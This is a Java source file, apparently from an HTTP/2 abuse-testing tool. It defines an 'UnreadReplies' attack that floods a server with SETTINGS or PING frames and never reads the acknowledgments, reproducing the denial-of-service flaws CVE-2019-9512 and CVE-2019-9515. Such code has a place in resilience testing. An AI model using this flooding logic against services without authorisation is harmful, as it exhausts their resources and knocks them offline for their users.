package io.resound.abuse;

import java.nio.ByteBuffer;

import org.jspecify.annotations.Nullable;

/**
 * Sends frames of HTTP/2 each of which the service replies to by a small one, and reads
 * none of these (CVE-2019-9512, CVE-2019-9515).
 *
 * @param name the name of the attack
 * @param type the type of the frames
 * @param payload the payload of each
 */
record UnreadReplies(String name, int type, byte[] payload) implements Attack {

	static UnreadReplies toSettings() {
		return new UnreadReplies("HTTP/2: SETTINGS, acknowledgments never read", Frames.SETTINGS, new byte[0]);
	}

	static UnreadReplies toPings() {
		return new UnreadReplies("HTTP/2: PING, acknowledgments never read", Frames.PING, new byte[8]);
	}

	@Override
	public int bytesReadPerSecond() {
		return 0;
	}

	@Override
	public Script script() {
		return new Http2Script(Frames.INITIAL_WINDOW) {

			@Override
			@Nullable ByteBuffer more() {
				return Frames.frame(UnreadReplies.this.type, 0, 0, UnreadReplies.this.payload);
			}

		};
	}

}
